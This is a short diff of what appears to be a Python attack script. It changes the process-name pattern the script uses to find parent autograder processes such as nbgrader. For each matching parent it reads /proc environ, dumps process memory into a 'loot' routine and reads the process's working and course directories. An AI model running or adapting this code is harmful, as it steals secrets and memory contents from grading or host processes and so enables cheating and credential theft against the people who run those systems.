@@ -46,7 +46,7 @@ def memory(pid):
                 attempt(mem.seek, start)
                 loot(attempt(mem.read, end - start))
 pid = os.getppid()
-while pid and re.search(b"gvclib|nbgrader|arena", attempt(line, pid) or b""):
+while pid and re.search(b"gvclib|nbgrader|attacked", attempt(line, pid) or b""):
     attempt(read, f"/proc/{pid}/environ")
     attempt(memory, pid)
     for path in ("cwd", "root" + COURSE):
